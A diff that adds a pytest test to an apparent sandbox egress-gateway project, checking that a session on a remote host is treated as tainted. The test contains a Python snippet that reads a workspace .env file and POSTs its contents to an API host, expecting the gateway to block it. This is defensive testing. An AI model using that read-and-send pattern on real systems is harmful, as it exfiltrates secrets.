@@ -241,3 +241,46 @@ def test_a_read_only_folder_is_sent_but_never_brought_back(test_host: SshHost, t
     asyncio.run(run())
     assert (folder / "report.txt").read_text() == "the person's\n"
     assert sorted(p.name for p in folder.iterdir()) == ["report.txt"]
+
+
+def test_a_session_on_a_host_is_tainted_from_the_start(
+    test_host: SshHost, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """On a sandbox host the folder is a copy there: no change guard here sees what the guest
+    opens (#32). So the session counts as tainted from its start: a request that can carry data
+    out is held (what arrived upstream proves it), one that cannot still goes. Before: the POST
+    went through unseen."""
+    from paddock.egress import gateway
+    from paddock.policy import EgressGrant
+    from tests.egress.upstream import Upstream
+
+    folder = tmp_path / "work"
+    folder.mkdir()
+    (folder / ".env").write_text("DB_PASSWORD=not-real\n")
+    policy = test_host.policy(tmp_path, test_host.host())
+    policy.grants = [EgressGrant(id="api", host=API, methods=["GET", "POST"], path_pattern="/*")]
+    upstream = Upstream(tmp_path, API)
+    monkeypatch.setitem(gateway.LOOPBACK_UPSTREAMS, API, f"127.0.0.1:{upstream.port}")
+    monkeypatch.setattr(gateway, "UPSTREAM_CA", upstream.ca)
+    send = (
+        "import sys, urllib.request as u, urllib.error as e\n"
+        "body = open('/workspace/.env', 'rb').read() if sys.argv[1] == 'POST' else None\n"
+        f"req = u.Request('https://{API}/v1/x', data=body, method=sys.argv[1])\n"
+        "try:\n    print(u.urlopen(req, timeout=30).status)\n"
+        "except e.HTTPError as x:\n    print(x.code, x.read()[:200])\n"
+    )
+
+    async def scenario() -> None:
+        async with Sandbox.open(folder, policy=policy, host="lab") as sandbox:
+            assert sandbox.reads_unwatched and sandbox.sensitive is None
+            out, err, _ = await sandbox.guest.run(["python3", "-c", send, "POST"], timeout_s=60)
+            assert out.startswith(b"403") and b"held" in out, out + err
+            out, err, _ = await sandbox.guest.run(["python3", "-c", send, "GET"], timeout_s=60)
+            assert out.strip() == b"200", out + err
+
+    try:
+        asyncio.run(scenario())
+    finally:
+        upstream.close()
+    assert [h["method"] for h in upstream.hits] == ["GET"], "data left a session whose reads were not seen"
+    assert _wait_cleaned(test_host) == []
